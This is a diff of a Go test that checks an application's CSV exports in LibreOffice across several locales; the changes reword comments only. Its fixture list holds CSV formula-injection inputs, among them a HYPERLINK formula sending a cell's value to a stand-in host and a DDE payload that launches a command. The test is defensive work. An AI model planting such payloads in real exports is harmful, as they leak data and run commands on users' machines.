@@ -18,14 +18,15 @@ import (
 	"github.com/idleseat/idleseat/shared/sandbox"
 )
 
-// awkward are names of people and departments that a spreadsheet could evaluate, split, or show in the wrong encoding.
+// awkward are names of people and departments that cause trouble in spreadsheets. A spreadsheet could evaluate them,
+// split them, or show them in the wrong encoding.
 var awkward = []string{
 	`=HYPERLINK("http://x.example/?"&A1;"click")`, `+cmd|' /C calc'!A0`, "@SUM(1;1)", "-2+3", "\t=1+1", "a\r=1+1", "\n=1+1", "＝1+1", " =1+1", `"=1+1"`,
 	"Anna;=1+1;x", "Anna,=1+1,x", `Anna"; =1+1;`, "Anna\u2028=1+1", "Åsa Öberg, ÄÖ", "Müller-Groß; Jürgen", "漢字 太郎", "שרה כהן", `Bo "B" O'Brien`,
 }
 
-// TestSpreadsheet opens every CSV file of the command in LibreOffice, with its Swedish, German and English settings. In
-// the test, LibreOffice evaluates formulas and detects special numbers, because Excel always does.
+// TestSpreadsheet opens every CSV file of the command in LibreOffice, with Swedish, German and English settings. In the
+// test, LibreOffice evaluates formulas and detects special numbers, because Excel always does so.
 func TestSpreadsheet(t *testing.T) {
 	t.Parallel()
 	if os.Getenv("IDLESEAT_TEST_SPREADSHEET") == "" {
@@ -54,7 +55,7 @@ func TestSpreadsheet(t *testing.T) {
 	}
 	for _, tc := range []struct{ locale, written, expected string }{
 		{"en-US", ",", ","}, {"sv-SE", ";", ";"}, {"de-DE", ";", ";"},
-		{"sv-SE", ",", ";"}, {"en-US", ";", ","}, // the spreadsheet expects another separator
+		{"sv-SE", ",", ";"}, {"en-US", ";", ","}, // LibreOffice expects another separator than the file has
 	} {
 		t.Run(fmt.Sprintf("%s reads %q as %q", tc.locale, tc.written, tc.expected), func(t *testing.T) {
 			t.Parallel()
@@ -107,15 +108,15 @@ func (c *spreadCell) value() string {
 	case "", "string":
 		var lines []string
 		for _, l := range c.Lines {
-			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // XML drops a blank
+			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // the XML decoder drops a blank
 		}
 		return strings.Join(lines, "\n")
 	}
 	return fmt.Sprintf("%+v", c)
 }
 
-// opened returns the cells of some files, by file. The argument "written" is the separator in these files. LibreOffice
-// opens the files with the settings of locale, and expects the separator "expected".
+// opened returns the cells of some CSV files, by the name of the file. The argument "written" is the separator in the
+// files. LibreOffice opens the files with the settings of the locale, and expects the separator "expected".
 func (s *shell) opened(t *testing.T, locale, written, expected string) map[string][][]spreadCell {
 	t.Helper()
 	suffix := map[string]string{",": "-comma", ";": "-semicolon"}[written]
@@ -176,7 +177,7 @@ func spreadCells(t *testing.T, file []byte) (rows [][]spreadCell) {
 	return rows
 }
 
-// sameSheet compares the cells of a spreadsheet with the CSV file: columns, texts, dates and numbers.
+// sameSheet compares the cells of a spreadsheet with the CSV file: the columns, the texts, the dates and the numbers.
 func (s *shell) sameSheet(t *testing.T, file, separator string, rows [][]spreadCell) {
 	t.Helper()
 	raw, err := os.ReadFile(s.path(file + map[string]string{",": "-comma", ";": "-semicolon"}[separator] + ".csv"))
@@ -221,7 +222,7 @@ func (s *shell) sameSheet(t *testing.T, file, separator string, rows [][]spreadC
 	}
 }
 
-// ofNumbers reports whether a column has numbers.
+// ofNumbers reports whether the column with this title has numbers.
 func ofNumbers(title string) bool {
 	return title == "monthlySaving" || title != "x_CostCenter" && (strings.HasSuffix(title, "Cost") || strings.HasSuffix(title, "Seats") || strings.HasSuffix(title, "Days"))
 }
